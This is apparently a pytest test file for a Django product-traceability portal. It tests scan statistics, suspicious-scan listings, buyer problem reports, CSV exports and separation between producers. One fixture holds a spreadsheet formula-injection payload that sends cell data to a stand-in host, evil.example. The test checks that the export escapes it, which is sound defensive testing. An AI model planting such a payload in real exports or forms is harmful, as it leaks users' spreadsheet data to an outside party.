"""Scans of my codes: how often, where, suspicious scans and buyers' reports; CSV in words."""
import csv
import datetime
import io

import pytest
from django.utils import timezone

from shop.models import District, Province
from traceability import services
from traceability.models import ProblemReport, Scan

pytestmark = pytest.mark.django_db


def _lot(product, code):
    made = timezone.localdate() - datetime.timedelta(days=40)
    return services.create_batch(variant=product.variants.first(), lot_code=code, production_date=made,
                                 expiry_date=made + datetime.timedelta(days=365), quantity=100)


def _scan(batch, *, days_ago=0, verdict="AUTHENTIC_SEEN_BEFORE", lat=None, lon=None, code=None):
    at = timezone.now() - datetime.timedelta(days=days_ago)
    return Scan.objects.create(scanned_at=at, last_seen_at=at, code=code or batch.short_code, batch=batch,
                               verdict=verdict, client_hash="c" * 32, latitude=lat, longitude=lon)


@pytest.fixture
def places(db):
    Province.objects.get_or_create(code="11", defaults={"name": "Điện Biên", "name_en": "Dien Bien",
                                                        "codename": "dien_bien"})
    District.objects.update_or_create(code="T-MA", defaults={"name": "Huyện Mường Ảng", "name_en": "Muong Ang",
                                                             "province_code": "11", "latitude": 21.52,
                                                             "longitude": 103.22})


@pytest.fixture
def scanned(producers, places):
    a_lot, b_lot = _lot(producers[0].products.first(), "MO-A1"), _lot(producers[1].products.first(), "CHE-B1")
    _scan(a_lot, days_ago=0, verdict="AUTHENTIC_FIRST_SCAN", lat=21.5, lon=103.2)
    _scan(a_lot, days_ago=0, lat=21.5, lon=103.2)
    _scan(a_lot, days_ago=1, lat=10.8, lon=106.7)  # Hồ Chí Minh City: far from every known district
    _scan(a_lot, days_ago=2)  # position not shared
    _scan(a_lot, days_ago=2, verdict="SUSPICIOUS", lat=21.5, lon=103.2, code="A-SUSPECT-1")
    _scan(a_lot, days_ago=90)  # out of the default 30 days
    _scan(b_lot, days_ago=0, verdict="SUSPICIOUS", code="B-SUSPECT-1")
    ProblemReport.objects.create(code=a_lot.short_code, batch=a_lot, kind="FAKE", client_hash="x" * 32,
                                 message='=HYPERLINK("http://evil.example/?"&A1,"Xem")')
    ProblemReport.objects.create(code=b_lot.short_code, batch=b_lot, kind="QUALITY", client_hash="y" * 32,
                                 message="B-REPORT bao bì rách")
    return a_lot, b_lot


def csv_rows(response):
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def test_the_page_counts_where_and_how_with_a_fixed_number_of_queries(
        owner_a, scanned, portal_client, django_assert_max_num_queries):
    client = portal_client(owner_a)
    for _ in range(30):  # more scans, more places: no more queries
        _scan(scanned[0], days_ago=3, lat=22.0, lon=104.0, verdict="SUSPICIOUS")
    with django_assert_max_num_queries(14):
        response = client.get("/en/producer/scans/")
    page = response.content.decode()
    assert response.status_code == 200
    assert "35 scans in this range." in page
    assert "Muong Ang, Dien Bien" in page and "Elsewhere" in page and "Position not shared" in page
    assert "A-SUSPECT-1" in page and "Check carefully" in page and "Suspected fake" in page
    assert '<svg xmlns="http://www.w3.org/2000/svg" class="chart"' in page
    assert "B-SUSPECT-1" not in page and "B-REPORT" not in page


def test_the_csv_exports_say_words_and_keep_formulas_as_text(owner_a, scanned, portal_client):
    client = portal_client(owner_a)
    rows = csv_rows(client.get("/en/producer/scans/csv/places/"))
    assert rows[0] == ["Where", "Scans"]
    assert ["Muong Ang, Dien Bien", "3"] in rows and ["Position not shared", "1"] in rows
    assert ["Elsewhere (outside the known districts)", "1"] in rows
    periods = csv_rows(client.get("/producer/scans/csv/periods/?period=week"))
    assert periods[0] == ["Từ ngày", "Lượt quét"] and sum(int(r[1]) for r in periods[1:]) == 5
    suspicious = csv_rows(client.get("/en/producer/scans/csv/suspicious/"))
    assert len(suspicious) == 2 and suspicious[1][3] == "A-SUSPECT-1"
    assert suspicious[1][4] == "Check carefully — unusual scans" and "SUSPICIOUS" not in suspicious[1]
    reports = csv_rows(client.get("/en/producer/scans/csv/reports/"))
    assert reports[0][4:] == ["Kind", "Message", "Handled"]
    assert reports[1][4] == "Suspected fake" and reports[1][5].startswith("'=HYPERLINK") and reports[1][6] == "no"
    assert len(reports) == 2  # B's report is not there


def test_b_sees_none_of_as_scans(owner_b, scanned, portal_client):
    client = portal_client(owner_b)
    page = client.get("/en/producer/scans/").content.decode()
    assert "1 scan in this range." in page and "A-SUSPECT-1" not in page and "Suspected fake" not in page
    rows = csv_rows(client.get("/en/producer/scans/csv/suspicious/"))
    assert [r[3] for r in rows[1:]] == ["B-SUSPECT-1"]
    assert all("HYPERLINK" not in cell for row in csv_rows(client.get("/producer/scans/csv/reports/")) for cell in row)


def test_a_range_is_chosen_and_bad_input_is_said_not_crashed(owner_a, scanned, portal_client):
    client = portal_client(owner_a)
    old = (timezone.localdate() - datetime.timedelta(days=120)).isoformat()
    page = client.get(f"/en/producer/scans/?start={old}").content.decode()
    assert "6 scans in this range." in page
    response = client.get("/en/producer/scans/?start=yesterday&period=month")
    assert response.status_code == 400 and "Not a date" in response.content.decode()
    assert 'value="yesterday"' in response.content.decode()
    assert client.get("/producer/scans/csv/start=bad/").status_code == 404
    assert client.get("/producer/scans/csv/secrets/").status_code == 404
    assert client.get("/producer/scans/csv/periods/?end=2020-01-01&start=2026-01-01").status_code == 400
